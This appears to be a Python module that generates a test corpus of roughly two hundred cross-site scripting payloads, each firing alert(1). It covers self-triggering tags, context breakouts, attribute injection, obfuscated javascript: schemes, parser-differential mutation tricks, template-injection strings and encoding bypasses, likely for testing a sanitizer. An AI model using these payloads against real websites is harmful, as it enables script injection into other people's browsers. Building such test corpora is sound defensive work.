"""Two hundred texts that try to run a script on a page, of our own writing.

What they would do is `alert(1)`: a dialog shows that one of them ran.
"""

from __future__ import annotations

from itertools import product

DO = "alert(1)"
# Elements that act without anybody touching them, as an editor or a mail program may bring them.
BY_THEMSELVES = (
    f"<script>{DO}</script>",
    f"<img src=x onerror={DO}>",
    f"<svg onload={DO}>",
    f"<svg><animate onbegin={DO} attributeName=x dur=1s>",
    f"<input autofocus onfocus={DO}>",
    f"<details open ontoggle={DO}>x</details>",
    f"<video src=x onerror={DO}></video>",
    f"<iframe srcdoc='<script>{DO}</script>'></iframe>",
    f"<object data=x onerror={DO}></object>",
    f"<marquee onstart={DO}>x</marquee>",
    f"<p id=x tabindex=1 autofocus onfocus={DO} style='animation:a 1s' onanimationstart={DO}>x</p>",
)
# What a text may stand in, and how it would get out of it.
WAYS_OUT = (
    *('">', "'>", "-->", "]]>", "</title>", "</textarea>", "</style>", "</script>"),
    *("</noscript>", "</select>", "</template>"),
)
IN_ATTRIBUTES = tuple(
    f"{quote} {act}={DO} {more} x={quote}"
    for quote, act, more in product(
        ('"', "'", "`"), ("onfocus", "onmouseover", "onclick"), ("autofocus", "style=top:0")
    )
)
SCHEMES = (
    *(f"javascript:{DO}", f"JaVaScRiPt:{DO}", f" javascript:{DO}", f"java\tscript:{DO}"),
    *(f"java\nscript:{DO}", f"\x01javascript:{DO}", f"javascript&colon;{DO}"),
    *(f"&#106;avascript:{DO}", f"&#x6A&#x61vascript:{DO}", f"javascript:/*--></title>*/{DO}"),
    *(f"data:text/html,<script>{DO}</script>", f"vbscript:{DO}", f"view-source:javascript:{DO}"),
)
LED_BY = (
    "<a href='{}'>x</a>",
    "<iframe src='{}'></iframe>",
    "<form action='{}'><button>x</button></form>",
)
# Readers of markup that understand it differently from the browser.
READ_TWICE = (
    f"<math><mtext><table><mglyph><style><img src=x onerror={DO}></style></mglyph></table>",
    f"<noscript><p title='</noscript><img src=x onerror={DO}>'></noscript>",
    f"<svg><style><img src=x onerror={DO}></style></svg>",
    f"<template><script>{DO}</script></template>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={DO}>",
    f"<svg></p><style><a id='</style><img src=x onerror={DO}>'>",
    f"<!--><img src=x onerror={DO}>-->",
    f"<!--!><img src=x onerror={DO}>",
    f"<![CDATA[<img src=x onerror={DO}>]]>",
    f"<?xml><img src=x onerror={DO}>",
    f"<xmp><p title='</xmp><img src=x onerror={DO}>'>",
    f"<select><iframe></select><img src=x onerror={DO}>",
    f"<table><td><plaintext><img src=x onerror={DO}>",
    f"<a href='https://x.example/' onclick='{DO}'>x</a>",
    f"<a href='https://x.example/\" onmouseover=\"{DO}'>x</a>",
    f"<img/src='x'/onerror='{DO}'>",
    f"<IMG SRC=x OnErRoR={DO}>",
    f"<img src=x onerror\n=\n{DO}>",
    f"<img src=`x` onerror={DO}//",
    f"<scr<script>ipt>{DO}</scr</script>ipt>",
    f"<script\x0c>{DO}</script\x0c>",
    f"<svg><script>{DO}</script>",
    f"<svg><script href=data:,{DO} />",
    "<svg><use href=data:image/svg+xml,x#x>",
    f"<link rel=stylesheet href=x onerror={DO}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{DO}'>",
    "<base href='https://x.example/'>",
    f"<body onload={DO}>",
    f"<embed src=javascript:{DO}>",
    f"<button popovertarget=p>x</button><p popover id=p onbeforetoggle={DO}>x</p>",
)
# Written for the languages that a page is made with.
OTHER_LANGUAGES = (
    f"';{DO}//",
    f'";{DO}//',
    f"\\';{DO}//",
    f"`${{{DO}}}`",
    f"{{{{constructor.constructor('{DO}')()}}}}",
    "{{ 7|add:7 }}{% debug %}",
    "{% load x %}{% include 'base.html' %}",
    f"[x](javascript:{DO})",
    f"![x](x){{onerror={DO}}}",
    f"\\u003cscript\\u003e{DO}\\u003c/script\\u003e",
    f"%3Cscript%3E{DO}%3C/script%3E",
    f"&lt;script&gt;{DO}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{DO}&amp;lt;/script&amp;gt;",
    f"+ADw-script+AD4-{DO}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{DO}\uff1c/script\uff1e",
    f"<p style='background:url(javascript:{DO})'>x</p>",
    f"<p style='width:expression({DO})'>x</p>",
    f"<!--[if gte IE 4]><script>{DO}</script><![endif]-->",
    f"<style>@import 'javascript:{DO}';</style>",
    "<style>*{display:none}</style>",
    f"{DO}\u2028{DO}",
)
BROKEN_OUT = tuple(way + element for way, element in product(WAYS_OUT[:7], BY_THEMSELVES)) + tuple(
    way + BY_THEMSELVES[1] for way in WAYS_OUT[7:]
)

TEXTS: tuple[str, ...] = (
    *BY_THEMSELVES,
    *BROKEN_OUT,
    *IN_ATTRIBUTES,
    *(led.format(scheme.replace("'", "&#39;")) for led, scheme in product(LED_BY, SCHEMES)),
    *READ_TWICE,
    *OTHER_LANGUAGES,
)
